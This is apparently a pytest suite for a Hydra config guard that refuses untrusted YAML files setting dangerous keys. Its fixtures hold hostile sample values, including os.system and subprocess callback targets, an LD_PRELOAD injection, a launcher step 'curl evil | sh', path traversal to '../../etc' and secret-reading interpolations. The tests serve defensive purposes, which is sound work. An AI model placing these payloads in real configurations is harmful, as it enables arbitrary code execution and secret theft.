"""`trainers.app.config_guard` inside Hydra's real composition (in process; the CLI runs that show
nothing executes are in test_config_guard_cli.py): what a composed file may set depends on
where it comes from, and every defaults list Hydra composes is checked."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest
from hydra import compose, initialize_config_dir
from hydra.core.global_hydra import GlobalHydra

from trainers.app.config_guard import (
    UNTRUSTED_HYDRA_KEYS,
    ComposedFile,
    check_file,
    guard_compositions,
    refused_keys,
)
from trainers.errors import UntrustedConfigError

EXIT = 2


def untrusted(content: dict, package: str = "") -> ComposedFile:
    return ComposedFile("copied.yaml", False, package, content)


def trusted(content: dict, package: str = "") -> ComposedFile:
    return ComposedFile("pkg://mypkg/conf.yaml", True, package, content)


# --------------------------------------------------------------------------------------------
# The rules, file by file
# --------------------------------------------------------------------------------------------

HOSTILE = {
    "callbacks": {"hydra": {"callbacks": {"x": {"_target_": "subprocess.getoutput"}}}},
    "job_logging factory": {"hydra": {"job_logging": {"handlers": {"h": {"()": "os.system"}}}}},
    "hydra_logging": {"hydra": {"hydra_logging": {"root": {"level": "DEBUG"}}}},
    "env_set": {"hydra": {"job": {"env_set": {"LD_PRELOAD": "/tmp/evil.so"}}}},
    "env_copy": {"hydra": {"job": {"env_copy": ["HOME"]}}},
    "forged task overrides": {"hydra": {"overrides": {"task": ["+allowed_targets=[os.]"]}}},
    "forged hydra overrides": {"hydra": {"overrides": {"hydra": ["hydra.callbacks={}"]}}},
    "empty overrides": {"hydra": {"overrides": {"task": []}}},
    "sampler": {"hydra": {"sweeper": {"sampler": {"_target_": "os.system", "command": "id"}}}},
    "sweeper target": {"hydra": {"sweeper": {"_target_": "os.system"}}},
    "launcher": {"hydra": {"launcher": {"setup": ["curl evil | sh"]}}},
    "output_subdir": {"hydra": {"output_subdir": "../../etc"}},
    "runtime": {"hydra": {"runtime": {"choices": {"task": "mlp"}}}},
    "help template": {"hydra": {"help": {"template": "${oc.env:SECRET}"}}},
    "whole hydra node": {"hydra": {}},
    "allowed_targets": {"allowed_targets": ["os."]},
    "allowed_targets element": {"allowed_targets": {"0": "os."}},
    "allowed_targets interpolated": {"allowed_targets": "${oc.env:EVIL}"},
    "resolver-made node": {"hydra": {"callbacks": "${oc.create:{x: {_target_: os.system}}}"}},
}


@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_copied_file_may_not_set_what_hydra_acts_on(content):
    assert refused_keys(untrusted(content))
    with pytest.raises(UntrustedConfigError, match=r"config file copied\.yaml sets "):
        check_file(untrusted(content))


PACKAGED = {  # the same keys reached through a package header or a hydra/* group option
    "hydra.callbacks": {"x": {"_target_": "os.system"}},
    "hydra.job_logging": {"handlers": {"h": {"()": "os.system"}}},
    "hydra.overrides": {"task": ["+allowed_targets=[os.]"]},
    "hydra": {"callbacks": {"x": {"_target_": "os.system"}}},
    "allowed_targets": {"x": "os."},
}


@pytest.mark.parametrize("package", PACKAGED)
def test_the_package_a_file_lands_in_counts(package):
    assert refused_keys(untrusted(PACKAGED[package], package))


def test_a_copied_file_may_set_where_outputs_go_and_what_a_sweep_searches():
    content = {
        "hydra": {
            "run": {"dir": "runs/a"},
            "sweep": {"dir": "sweeps/a", "subdir": "${hydra.job.num}"},
            "job": {"name": "exp", "chdir": False},
            "sweeper": {"params": {"optimizer.learning_rate": "0.1,0.01"}, "n_trials": 4},
        },
        "task": {"_target_": "trainers.tasks.mlp.MLPTask"},
        "defaults": [{"override /hydra/launcher": "submitit_local"}],
    }
    assert refused_keys(untrusted(content)) == []
    assert all(key.startswith("hydra.") for key in UNTRUSTED_HYDRA_KEYS)


def test_trusted_files_may_set_hydra_keys_but_never_forge_the_command_line():
    assert refused_keys(trusted(HOSTILE["callbacks"])) == []
    assert refused_keys(trusted(HOSTILE["allowed_targets"])) == []
    assert refused_keys(trusted(HOSTILE["empty overrides"])) == []  # Hydra's own schema
    assert refused_keys(trusted(HOSTILE["forged task overrides"])) == ["hydra.overrides.task"]


def test_a_copied_file_may_repeat_granted_entries_but_not_widen_them():
    granted = frozenset({"mypkg.", "other."})
    assert refused_keys(untrusted({"allowed_targets": ["mypkg."]}), granted) == []
    widened = untrusted({"allowed_targets": ["mypkg.", "os."]})
    assert refused_keys(widened, granted) == ["allowed_targets"]
    with pytest.raises(UntrustedConfigError, match=r"sets allowed_targets to 'os\.', which no"):
        check_file(widened, granted)
    elsewhere = untrusted({"allowed_targets": ["${task.pkg}"]})  # not readable in the file
    assert refused_keys(elsewhere, granted) == ["allowed_targets"]


def test_the_error_names_the_file_the_key_and_what_is_allowed():
    with pytest.raises(UntrustedConfigError) as caught:
        check_file(untrusted(HOSTILE["env_set"]))
    message = str(caught.value)
    assert "copied.yaml sets hydra.job.env_set.LD_PRELOAD" in message
    assert "hydra.run.dir" in message  # what such a file may set instead
    with pytest.raises(UntrustedConfigError, match="real command line"):
        check_file(untrusted(HOSTILE["forged task overrides"]))


# --------------------------------------------------------------------------------------------
# Real Hydra compositions under the guard
# --------------------------------------------------------------------------------------------


@pytest.fixture
def conf(tmp_path) -> Path:
    """A primary config that sets Hydra keys itself (trusted), and a copied group of options."""
    (tmp_path / "main.yaml").write_text(
        textwrap.dedent("""\
        defaults:
          - _self_
          - exp: plain
        hydra:
          job:
            env_set: {FROM_PRIMARY: "1"}
        allowed_targets: [mypkg.]
        lr: 0.1
        """)
    )
    (tmp_path / "exp").mkdir()
    (tmp_path / "exp" / "plain.yaml").write_text("# @package _global_\nlr: 0.2\n")
    (tmp_path / "exp" / "outputs.yaml").write_text(
        "# @package _global_\nhydra: {run: {dir: runs/x}}\nlr: 0.3\n"
    )
    (tmp_path / "exp" / "forge.yaml").write_text(
        "# @package _global_\nhydra: {overrides: {task: ['+allowed_targets=[os.]']}}\n"
    )
    (tmp_path / "exp" / "header.yaml").write_text(
        "# @package hydra.callbacks\nx: {_target_: a.b}\n"
    )
    (tmp_path / "exp" / "pulls.yaml").write_text(
        "# @package _global_\ndefaults:\n  - /exp/header\n"
    )
    (tmp_path / "exp" / "repeats.yaml").write_text(
        "# @package _global_\nallowed_targets: [mypkg.]\n"
    )
    (tmp_path / "exp" / "widens.yaml").write_text("# @package _global_\nallowed_targets: [os.]\n")
    (tmp_path / "hydra" / "job_logging").mkdir(parents=True)
    (tmp_path / "hydra" / "job_logging" / "evil.yaml").write_text(
        "handlers: {h: {'()': os.system}}\n"
    )
    yield tmp_path
    GlobalHydra.instance().clear()


def composed(conf: Path, *overrides: str):
    GlobalHydra.instance().clear()
    with guard_compositions(EXIT), initialize_config_dir(str(conf), version_base="1.3"):
        return compose("main", list(overrides), return_hydra_config=True)


def test_trusted_primary_and_harmless_options_compose(conf):
    assert composed(conf).lr == 0.2
    assert list(composed(conf, "exp=repeats").allowed_targets) == ["mypkg."]
    cfg = composed(conf, "exp=outputs")
    assert (cfg.lr, cfg.hydra.run.dir, cfg.hydra.job.env_set.FROM_PRIMARY) == (0.3, "runs/x", "1")


@pytest.mark.parametrize(
    ("override", "file", "key"),
    [
        ("exp=forge", "exp/forge.yaml", "hydra.overrides.task"),
        ("exp=widens", "exp/widens.yaml", "allowed_targets to 'os.'"),
        ("exp=header", "exp/header.yaml", "hydra.callbacks.x._target_"),
        ("exp=pulls", "exp/header.yaml", "hydra.callbacks.x._target_"),
        ("hydra/job_logging=evil", "hydra/job_logging/evil.yaml", "hydra.job_logging.handlers"),
    ],
)
def test_each_composition_refuses_a_hostile_file(conf, capsys, override, file, key):
    with pytest.raises(SystemExit) as exited:
        composed(conf, override)
    assert exited.value.code == EXIT
    line = capsys.readouterr().err.strip()
    assert line.startswith(f"xshard: error: config file {conf / file} sets {key}"), line
    assert "\n" not in line


def test_the_guard_is_lifted_on_exit(conf):
    from hydra._internal.config_loader_impl import ConfigLoaderImpl

    before = ConfigLoaderImpl._compose_config_from_defaults_list
    with pytest.raises(SystemExit):
        composed(conf, "exp=forge")
    assert ConfigLoaderImpl._compose_config_from_defaults_list is before
    GlobalHydra.instance().clear()
    with initialize_config_dir(str(conf), version_base="1.3"):  # unguarded: Hydra composes it
        assert compose("main", ["exp=forge"], return_hydra_config=True).lr == 0.1
